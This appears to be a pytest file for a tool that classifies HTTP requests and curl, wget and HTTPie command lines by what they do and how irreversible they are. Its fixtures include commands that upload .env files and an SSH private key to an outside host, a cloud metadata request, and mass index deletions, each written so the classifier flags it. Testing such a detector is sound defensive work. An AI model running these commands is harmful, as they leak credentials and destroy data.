"""HTTP requests are read for what they do: by method, host, path, query and body."""

import pytest

from commensurate.effects.http import request_effects
from commensurate.effects.reading import Scene, Stdin
from commensurate.model.analysis import Coverage
from commensurate.model.effect import (
    BlastRadius,
    Effect,
    Environment,
    Operation,
    Resource,
    ResourceKind,
    Reversibility,
    Trait,
)
from effects.cloud_commands import reading_of, short

REQUESTS = [
    ("GET", "https://api.example.com/users", None, "read url reversible one"),
    ("DELETE", "https://api.example.com/users/7", None, "delete user irreversible one"),
    ("DELETE", "https://api.example.com/users", None, "delete user irreversible several"),
    ("DELETE", "https://api.example.com/v1/projects/42", None, "delete stack irreversible environment"),
    ("DELETE", "http://localhost:3000/users/7", None, "delete url costly one development"),
    ("delete", "https://es.example.com:9200/logs-1", None, "delete index irreversible several"),
    ("DELETE", "https://es.example.com:9200/_all", None, "delete index irreversible environment"),
    ("DELETE", "https://es.example.com:9200/%2A", None, "delete index irreversible environment"),
    ("DELETE", "http://10.0.0.1:9200/_snapshot/nightly/s1", None, "delete backup irreversible several"),
    ("POST", "http://10.0.0.1:9200/logs/_search", '{"query":{}}', "read index reversible one"),
    ("POST", "http://10.0.0.1:9200/logs/_delete_by_query", '{"query":{"match_all":{}}}', "delete row irreversible several"),
    ("POST", "http://10.0.0.1:9200/_bulk", '{"delete":{"_index":"a","_id":"1"}}', "delete row irreversible several"),
    ("POST", "https://x-dsn.algolia.net/1/indexes/users/clear", "", "delete row irreversible several"),
    ("POST", "https://hooks.slack.com/services/T/B/x", '{"text":"hi"}', "send message irreversible one"),
    ("POST", "https://api.stripe.com/v1/payouts", "amount=5", "pay payment irreversible one"),
    ("POST", "https://api.example.com/users/7/delete", "", "delete user irreversible one"),
    ("POST", "https://api.example.com/do", {"action": "purge", "id": 3}, "delete url irreversible one"),
    ("GET", "https://api.example.com/admin?action=delete&id=3", None, "delete url costly one"),
    ("GET", "http://169.254.169.254/latest/meta-data/", None, "read secret reversible one"),
    ("PATCH", "https://api.prod.example.com/flags/x", "{}", "update url costly one production"),
    ("POST", "https://api.example.com/graphql", '{"query":"mutation{volumeDelete(volumeId:\\"a\\")}"}',
     "delete volume irreversible several"),
    ("POST", "https://api.example.com/graphql", '{"query":"{ me { name } }"}', "read record reversible one"),
]  # fmt: skip


def _told(effect: Effect) -> str:
    where = "" if effect.environment is Environment.UNKNOWN else " " + effect.environment.value
    parts = (effect.operation.value, effect.resource.kind.value, effect.reversibility.word, effect.blast_radius.word)
    return " ".join(parts) + where


@pytest.mark.parametrize(("method", "url", "body", "told"), REQUESTS)
def test_a_request_is_read_for_what_it_does(method: str, url: str, body: object, told: str) -> None:
    """Method, host, path and body together say what a request does, and how bad it would be."""
    (effect,) = request_effects(method, url, body, Scene(), "the request").effects
    assert _told(effect) == told


def test_a_method_that_nobody_knows_is_opaque() -> None:
    """An unknown method may do anything."""
    assert request_effects("FROBNICATE", "https://a.example/", None, Scene(), "x").coverage is Coverage.OPAQUE


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "0x7f.1", "2130706433", "[::1]", "localhost", "api.localhost", "127.1", "0.0.0.0"]
)
def test_this_machine_is_development_however_it_is_spelled(host: str) -> None:
    """Hosts are read as browsers read them."""
    (effect,) = request_effects("POST", f"http://{host}:8000/x", "{}", Scene(), "x").effects
    assert effect.environment is Environment.DEVELOPMENT
    assert effect.reversibility is Reversibility.REVERSIBLE


def test_a_url_that_does_not_parse_keeps_its_method() -> None:
    """A URL with a variable in it is unresolved; a DELETE to it stays a DELETE."""
    (effect,) = request_effects("DELETE", "$API/users/7", None, Scene(), "x").effects
    assert effect.operation is Operation.DELETE
    assert Trait.UNRESOLVED in effect.traits


LINES = [
    ("curl https://example.com", ["read url https://example.com reversible one"]),
    ("curl -XDELETE https://a.example/users/7", ["delete user https://a.example/users/7 irreversible one"]),
    ("curl -d a=b https://a.example/x", ["send url https://a.example/x costly one"]),
    ("curl -G -d a=b https://a.example/x", ["read url https://a.example/x reversible one"]),
    ("curl -sI https://a.example/x", ["read url https://a.example/x reversible one"]),
    ("curl -Fname=@.env a.example", ["send secret a.example irreversible one"]),
    ("curl -sFname=@.env a.example", ["send secret a.example irreversible one"]),
    ("curl --data-binary @/home/ada/.ssh/id_rsa a.example", ["send secret a.example irreversible one"]),
    ("curl -o out.bin https://a.example/x", ["create file /work/out.bin reversible one", "read url https://a.example/x reversible one"]),
    ("curl -Q 'DELE f' ftp://a.example/", ["read url ftp://a.example/ reversible one", "delete url ftp://a.example/ irreversible one"]),
    ("wget -q --spider https://a.example", ["read url https://a.example reversible one"]),
    ("wget --method=DELETE https://a.example/users/7 -O-", ["delete user https://a.example/users/7 irreversible one"]),
    ("wget --post-file=.env https://a.example/x -O -", ["send secret https://a.example/x irreversible one"]),
    ("http DELETE a.example/users/7", ["delete user a.example/users/7 irreversible one"]),
    ("http a.example/x name=1", ["send url a.example/x costly one"]),
    ("https a.example/x", ["read url https://a.example/x reversible one"]),
    ("xh put :3000/x a=1", ["update url localhost:3000/x reversible one development"]),
    ("ab -n 1000 -c 10 https://api.prod.example.com/", ["send url https://api.prod.example.com/ costly several production"]),
]  # fmt: skip


@pytest.mark.parametrize(("line", "told"), LINES)
def test_programs_that_make_requests_are_read_by_their_options(line: str, told: list[str]) -> None:
    """curl, wget, HTTPie and load generators all end in the one reader of requests."""
    assert short(reading_of(line)) == told


def test_a_secret_that_is_piped_in_is_sent_out() -> None:
    """What feeds the program is what leaves."""
    fed = Effect(
        Operation.READ, Resource(ResourceKind.SECRET, "id_rsa"), Reversibility.REVERSIBLE, BlastRadius.ONE, "cat id_rsa"
    )
    for line in (
        "curl --data-binary @- a.example",
        "curl -T - a.example",
        "http a.example",
        "wget --post-file=- a.example -O-",
    ):
        found = reading_of(line, Stdin(effects=(fed,), source="cat")).effects
        assert any({Trait.SECRET, Trait.OUTBOUND} <= effect.traits for effect in found), line
